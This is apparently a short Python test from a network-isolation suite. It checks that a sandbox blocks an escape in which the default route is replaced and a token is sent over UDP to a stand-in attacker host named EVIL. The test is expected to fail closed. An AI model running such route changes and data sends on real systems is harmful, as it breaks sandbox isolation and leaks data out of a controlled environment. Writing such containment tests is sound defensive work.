"""
how: a route to everybody on the link
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import EVIL
from sockets import udp


def attempt(token):
    return changed(["route", "replace", "0.0.0.0/1", "dev", "eth0"], lambda: udp(EVIL, 9999, token))
